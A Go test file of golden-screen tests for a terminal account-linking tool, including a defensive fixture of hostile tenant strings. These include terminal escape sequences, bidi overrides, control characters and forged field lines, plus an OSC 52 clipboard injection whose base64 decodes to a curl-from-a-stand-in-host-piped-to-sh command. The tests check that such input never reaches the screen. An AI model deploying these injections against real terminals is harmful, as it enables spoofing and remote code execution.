package views

import (
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/exp/golden"

	"github.com/linkdesk/linkdesk/emulator"
	"github.com/linkdesk/linkdesk/emulator/emulatortest"
	"github.com/linkdesk/linkdesk/linking"
	"github.com/linkdesk/linkdesk/scan"
	"github.com/linkdesk/linkdesk/tui"
)

// Goldens of every screen at 100×30 and, for those named in small, at
// 60×20 too (the smallest window the screens are laid out for), with the
// fixture, a fixed clock and the plain theme (no escape sequence at all),
// so that any byte a tenant string smuggled through would show. Update
// with: go test ./views -run TestGolden -update
func TestGolden(t *testing.T) {
	tests := []struct {
		name   string
		opts   harnessOpts
		report func(testing.TB) *linking.Report
		keys   func(h *harness)
	}{
		{name: "overview"},
		{name: "overview_connections", keys: func(h *harness) { h.press("G") }}, // every combination reads apart at 60×20
		{name: "groups", keys: func(h *harness) { h.press("2") }},
		{name: "groups_filtering", keys: func(h *harness) { h.press("2", "/"); h.typeText("gmail") }},
		{name: "groups_by_class", keys: func(h *harness) { h.press("j", "j", "enter") }},
		{name: "groups_no_match", keys: func(h *harness) { h.press("2", "/"); h.typeText("imported.user") }},
		{name: "detail", keys: inGroup("lena.fischer@gmail.com")},
		{name: "detail_shared_by_design", keys: inGroup("the.millers@gmail.com")},
		{name: "detail_filtered_to_a_child", keys: func(h *harness) {
			h.press("2", "/")
			h.typeText("liam.miller")
			h.press("enter", "enter")
		}},
		{name: "detail_read_only", opts: harnessOpts{readOnly: true}, keys: inGroup("john.doe@acme.com")},
		{name: "link_accounts", opts: harnessOpts{tenant: true}, keys: inGroup("wei.zhang@gmail.com", "l")},
		{name: "link_review", opts: harnessOpts{tenant: true}, keys: inGroup("wei.zhang@gmail.com", "l", "enter")},
		{name: "link_review_merge", opts: harnessOpts{tenant: true, edit: withMetadata}, keys: inGroup("alice.nguyen@gmail.com", "l", "enter", "j")},
		{name: "link_review_three_conflicts", opts: harnessOpts{tenant: true, edit: withThreeWayConflict}, keys: inGroup("wei.zhang@gmail.com", "l", "enter", "j", "j", "space")},
		{name: "link_review_refused", opts: harnessOpts{tenant: true}, keys: inGroup("maria.garcia@outlook.com", "l", "enter")},
		{name: "link_confirm", opts: harnessOpts{tenant: true}, keys: inGroup("alice.nguyen@gmail.com", "l", "enter", "enter", "enter")},
		{name: "link_confirm_reason", opts: harnessOpts{tenant: true}, keys: func(h *harness) {
			h.openGroup("alice.nguyen@gmail.com")
			h.press("l", "enter", "enter", "tab", "ctrl+u")
			h.typeText("ZD-4411 same person, confirmed by phone")
		}},
		{name: "leave_the_wizard", opts: harnessOpts{tenant: true}, keys: inGroup("alice.nguyen@gmail.com", "l", "enter", "1")},
		{name: "unlink", opts: harnessOpts{tenant: true}, keys: inGroup("lena.fischer@gmail.com", "u")},
		{name: "delete", opts: harnessOpts{tenant: true}, keys: func(h *harness) {
			h.openGroup("the.millers@gmail.com")
			h.press("j", "D")
			h.typeText("emma.mil")
		}},
		{name: "delete_shared_email", opts: harnessOpts{tenant: true}, keys: inGroup("wei.zhang@gmail.com", "j", "j", "D")},
		{name: "delete_recommended_primary", opts: harnessOpts{tenant: true}, keys: inGroup("lena.fischer@gmail.com", "D")},
		{name: "ticket_confirm", opts: harnessOpts{tenant: true}, keys: inGroup("the.millers@gmail.com", "j", "j", "t")},
		{name: "ticket_secondary_email", opts: harnessOpts{tenant: true, edit: withSecondaryEmail}, keys: func(h *harness) {
			h.openGroup("the.millers@gmail.com")
			h.press("j", "j", "t", "tab")
			h.typeText("2d")
			h.press("down", "down", "down", "space")
		}},
		{name: "ticket_social_refused", opts: harnessOpts{tenant: true}, keys: inGroup("alice.nguyen@gmail.com", "j", "t")},
		{name: "verify_confirm", opts: harnessOpts{tenant: true}, keys: inGroup("maria.garcia@outlook.com", "j", "v")},
		{name: "find", opts: harnessOpts{tenant: true}, keys: func(h *harness) {
			h.press("f")
			h.typeText("the.millers@GMAIL.com")
		}},
		{name: "find_family", opts: harnessOpts{tenant: true}, keys: func(h *harness) {
			h.press("f")
			h.typeText("the.millers@GMAIL.com")
			h.press("enter", "j")
		}},
		{name: "account", opts: harnessOpts{tenant: true}, keys: func(h *harness) {
			h.press("f")
			h.typeText("sam.taylor@gmail.com")
			h.press("enter")
		}},
		{name: "account_by_username", opts: harnessOpts{tenant: true, edit: withSecondaryEmail}, keys: func(h *harness) {
			h.press("f")
			h.typeText("liam.miller")
			h.press("enter")
		}},
		{name: "audit_log", keys: func(h *harness) {
			h.c.Backend.Session.Paths.AuditLog = "testdata/audit.log"
			h.press("3", "j")
		}},
		{name: "audit_log_filtered", keys: func(h *harness) {
			h.c.Backend.Session.Paths.AuditLog = "testdata/audit.log"
			h.press("3", "/")
			h.typeText("error")
		}},
		{name: "audit_record", keys: func(h *harness) {
			h.c.Backend.Session.Paths.AuditLog = "testdata/audit.log"
			h.press("3", "j", "enter")
		}},
		{name: "help_detail", keys: inGroup("wei.zhang@gmail.com", "?")},
		{name: "help_groups", keys: func(h *harness) { h.press("2", "?") }},
		{name: "small_window", keys: func(h *harness) { h.send(tea.WindowSizeMsg{Width: 59, Height: 19}) }},
		{name: "scanning", keys: func(h *harness) {
			h.c.Data.SetReport(nil)
			h.c.Scan = tui.ScanStatus{Running: true, Progress: scan.Progress{Stage: "export", JobID: "job_4fQx9", Job: "processing", Percent: 45}}
		}},
		{name: "scanning_download", keys: func(h *harness) {
			h.c.Data.SetReport(nil)
			h.c.Scan = tui.ScanStatus{Running: true, Progress: scan.Progress{Stage: "export", JobID: "job_4fQx9", Job: "completed"}}
		}},
		{name: "hostile_groups", report: hostileReport, keys: func(h *harness) { h.press("2") }},
		{name: "hostile_detail", report: hostileReport, keys: func(h *harness) { h.press("2", "enter") }},
		{name: "hostile_detail_reasons", report: hostileReport, keys: func(h *harness) { h.press("2", "j", "enter", "tab", "j", "j") }},
	}
	small := map[string]bool{
		"overview": true, "overview_connections": true, "groups": true, "detail_shared_by_design": true, "detail_filtered_to_a_child": true,
		"link_accounts": true, "link_review_three_conflicts": true, "link_confirm": true, "link_confirm_reason": true,
		"unlink": true, "delete": true, "delete_shared_email": true, "delete_recommended_primary": true,
		"ticket_confirm": true, "ticket_secondary_email": true, "verify_confirm": true,
		"find_family": true, "account": true, "account_by_username": true,
		"audit_log": true, "audit_log_filtered": true, "audit_record": true, "help_detail": true, "leave_the_wizard": true,
	}
	for _, tt := range tests {
		sizes := [][2]int{{100, 30}}
		if small[tt.name] {
			sizes = append(sizes, [2]int{60, 20})
		}
		for _, size := range sizes {
			name := tt.name
			if size[0] != 100 {
				name += fmt.Sprintf("_%dx%d", size[0], size[1])
			}
			t.Run(name, func(t *testing.T) {
				opts := tt.opts
				opts.fixedPaths = true
				opts.width, opts.height = size[0], size[1]
				h := newHarness(t, opts)
				if tt.report != nil {
					h.m.LoadReport(tt.report(t))
				}
				if tt.keys != nil {
					tt.keys(h)
				}
				view := h.screen()
				assertNothingForged(t, view)
				assertFits(t, view, size[0], size[1])
				golden.RequireEqual(t, view)
			})
		}
	}
}

// assertFits fails when the screen is wider or taller than the window.
func assertFits(t testing.TB, view string, width, height int) {
	t.Helper()
	lines := strings.Split(view, "\n")
	if len(lines) > height {
		t.Fatalf("the screen is %d lines tall in a window of %d", len(lines), height)
	}
	for i, l := range lines {
		if w := tui.Width(l); w > width {
			t.Fatalf("line %d is %d cells wide in a window of %d: %q", i+1, w, width, l)
		}
	}
}

// assertNothingForged fails when the screen holds anything a terminal would
// act on: with the plain theme, not even a style escape may appear.
func assertNothingForged(t testing.TB, view string) {
	t.Helper()
	for i, r := range view {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			t.Fatalf("control character %U at byte %d of the screen:\n%q", r, i, view)
		case unicode.Is(unicode.Cf, r), r == '\u2028', r == '\u2029':
			t.Fatalf("format character %U at byte %d of the screen:\n%q", r, i, view)
		case r == unicode.ReplacementChar && !strings.Contains(view[i:i+3], "\uFFFD"):
			t.Fatalf("invalid UTF-8 at byte %d", i)
		}
	}
}

// hostileReport is a scan whose every string attacks the terminal: escape
// sequences (title, clipboard, clear, cursor moves), bidi overrides,
// zero-width characters, C0 and C1 controls, invalid UTF-8, a huge name.
func hostileReport(t testing.TB) *linking.Report {
	t.Helper()
	conns := linking.InferConnections()
	created := time.Date(2024, 2, 3, 4, 5, 6, 0, time.UTC)
	acct := func(a linking.Account) *linking.Account {
		a.CreatedAt, a.LastLogin = created, created.AddDate(0, 6, 0)
		return &a
	}
	email := "eve.sneaky@gmail.com"
	g1 := &linking.Group{Email: email, Accounts: []*linking.Account{
		acct(linking.Account{
			UserID: "auth0|\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07abc", Connection: "Username-Password-Authentication",
			Provider: "auth0", Strategy: "auth0", Email: email, EmailVerified: true, LoginsCount: 7,
			Name: "\x1b]0;pwned\x07Eve\x1b[1A\x1b[2K\x1b[10Dverified admin", Username: "eve\x1b[8m",
		}),
		acct(linking.Account{
			UserID: "google-oauth2|100000000000000000666", Connection: "google-oauth2\x1b[2J\x1b[H", Provider: "google-oauth2",
			Strategy: "google-oauth2", Email: "Eve.Sneaky@gmail.com", EmailVerified: true, LoginsCount: 2,
			Name:   "Eve \u202enimda\u202c\u200bSneaky\u200d\ufeff\x00\x07\x08\x7f\u0085\u009b31m\nuser_id: auth0|admin\r\nemail_verified: true",
			Linked: []linking.Identity{{Connection: "github\u202e", Provider: "github", UserID: "42\x1b[31m", Email: "eve\u200b@gmail.com", EmailVerified: true}},
		}),
	}}
	g2 := &linking.Group{Email: "ren\xe9\u200b@orange.fr", Accounts: []*linking.Account{
		acct(linking.Account{UserID: "auth0|65aa11bb22cc33dd44ee5600", Connection: "Username-Password-Authentication", Provider: "auth0",
			Strategy: "auth0", Email: "ren\xe9\u200b@orange.fr", EmailVerified: true, LoginsCount: 1,
			Name: "Ren\xe9 Dupont \xff\xfe " + strings.Repeat("Hubert Blaine Wolfeschlegelsteinhausenbergerdorff ", 205)}),
		acct(linking.Account{UserID: "sms|\u009d0;owned\u009c64a", Connection: "sms", Provider: "sms", Strategy: "sms",
			Email: "REN\xe9\u200b@orange.fr", PhoneNumber: "+33\u2066600000000\u2069", LoginsCount: 5}),
	}}
	for _, g := range []*linking.Group{g1, g2} {
		linking.Classify(g, conns)
	}
	return &linking.Report{Tenant: "hostile.example", ScannedAt: fixedNow.Add(-time.Hour), Method: linking.MethodExport,
		UsersScanned: 4, AccountsWithEmail: 4, Groups: []*linking.Group{g1, g2}}
}

// hostileFixture is a tenant whose every string attacks: escape sequences
// in every string field, bidi overrides, zero-width characters, a name of
// more than a megabyte, invalid UTF-8, duplicate keys, numbers where
// strings belong, spreadsheet formulas.
const hostileFixture = emulatortest.Hostile

func withHostileTenant(t *emulator.Tenant) {
	h, err := emulator.LoadFixture(emulatortest.Path(hostileFixture))
	if err != nil {
		panic(err)
	}
	*t = *h
}

// Goldens of the screens over the hostile fixture, scanned from its file
// and served by the sandbox tenant: what the operator sees, with nothing
// the terminal would act on. Update with: go test ./views -run
// TestGoldenHostileFixture -update
func TestGoldenHostileFixture(t *testing.T) {
	for _, tt := range []struct {
		name   string
		keys   func(h *harness)
		height int // 30 unless set
	}{
		{"overview", nil, 0},
		{"groups", func(h *harness) { h.press("2") }, 0},
		{"detail_first", func(h *harness) { h.press("2", "enter") }, 0},
		{"detail_second", func(h *harness) { h.press("2", "j", "enter") }, 0},
		{"detail_third", func(h *harness) { h.press("2", "j", "j", "enter") }, 0},
		{"detail_fourth", func(h *harness) { h.press("2", "j", "j", "j", "enter") }, 0},
		{"detail_fourth_accounts", func(h *harness) { h.press("2", "j", "j", "j", "enter", "tab", "j", "j") }, 0},
		{"link_review", func(h *harness) { h.press("2", "enter", "l", "enter") }, 0},
		{"link_review_scrolled", func(h *harness) { h.press("2", "enter", "l", "enter", "j", "j", "j") }, 20},
		{"link_confirm", func(h *harness) { h.press("2", "enter", "l", "enter", "enter", "enter") }, 0},
		{"delete", func(h *harness) { h.press("2", "enter", "j", "D") }, 0},
		{"groups_filter", func(h *harness) { h.press("2", "/"); h.typeText("evil") }, 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := harnessOpts{tenant: true, fixedPaths: true, edit: withHostileTenant}
			if tt.height > 0 {
				o.width, o.height = 100, tt.height
			}
			h := newHarness(t, o)
			h.m.LoadReport(fixtureReportFrom(t, hostileFixture))
			if tt.keys != nil {
				tt.keys(h)
			}
			view := h.screen()
			assertNothingForged(t, view)
			golden.RequireEqual(t, view)
		})
	}
}
